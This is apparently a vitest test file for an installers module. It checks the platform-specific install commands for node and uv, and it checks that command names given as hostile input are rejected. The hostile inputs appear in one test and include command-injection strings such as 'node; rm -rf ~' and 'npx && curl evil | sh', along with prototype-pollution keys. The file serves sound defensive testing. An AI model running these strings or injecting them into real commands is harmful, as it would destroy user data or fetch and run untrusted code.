import { describe, expect, it } from 'vitest';
import { commandKey, DEFAULT_INSTALLERS, installActionFor, installerFor } from './installers';

describe('DEFAULT_INSTALLERS', () => {
  it('installs node, npm and npx with winget on Windows, Homebrew on macOS and the download page elsewhere', () => {
    for (const command of ['node', 'npm', 'npx']) {
      expect(installActionFor(command, DEFAULT_INSTALLERS, 'win32')).toMatchObject({ kind: 'package-manager', manager: 'winget', run: { file: 'winget' } });
      expect(installActionFor(command, DEFAULT_INSTALLERS, 'darwin')).toEqual({
        kind: 'package-manager',
        manager: 'brew',
        run: { file: 'brew', args: ['install', 'node'] },
        url: 'https://nodejs.org/en/download',
      });
      expect(installActionFor(command, DEFAULT_INSTALLERS, 'linux')).toEqual({ kind: 'download-page', url: 'https://nodejs.org/en/download' });
    }
  });

  it('installs uv and uvx with the official script: PowerShell on Windows, curl | sh elsewhere', () => {
    for (const command of ['uv', 'uvx']) {
      expect(installActionFor(command, DEFAULT_INSTALLERS, 'win32')).toMatchObject({ kind: 'script', run: { file: 'powershell' } });
      expect(installActionFor(command, DEFAULT_INSTALLERS, 'darwin')).toMatchObject({
        kind: 'script',
        run: { file: 'sh', args: ['-c', 'curl -LsSf https://astral.sh/uv/install.sh | sh'] },
      });
    }
  });

  it('finds the installer of a command given as a path, and on Windows with its extension and any case', () => {
    expect(commandKey('C:\\Program Files\\nodejs\\NPX.CMD', 'win32')).toBe('npx');
    expect(commandKey('/opt/homebrew/bin/npx', 'darwin')).toBe('npx');
    // POSIX names are case-sensitive and extensions are part of them.
    expect(commandKey('/usr/bin/NPX.cmd', 'linux')).toBe('NPX.cmd');
    expect(installerFor('/opt/homebrew/bin/uvx', DEFAULT_INSTALLERS, 'darwin')?.commands).toContain('uvx');
  });

  it('matches hostile names to no installer, and no installer ever carries them in its arguments', () => {
    const hostile = ['__proto__', 'constructor', 'toString', 'node; rm -rf ~', '$(touch pwned)', 'npx && curl evil | sh', 'uv\u0000x', 'node ', ' node', ''];
    for (const name of hostile) {
      for (const platform of ['win32', 'darwin', 'linux'] as const) expect(installerFor(name, DEFAULT_INSTALLERS, platform), name).toBeUndefined();
    }
    // The runs are constant argument arrays: nothing of the requested name is spliced into them.
    const quirky = '/tmp/$(touch pwned)/npx';
    for (const platform of ['win32', 'darwin'] as const) {
      const action = installActionFor(quirky, DEFAULT_INSTALLERS, platform);
      expect(action && 'run' in action ? action.run.args.join(' ') : '', platform).not.toContain('pwned');
    }
  });
});
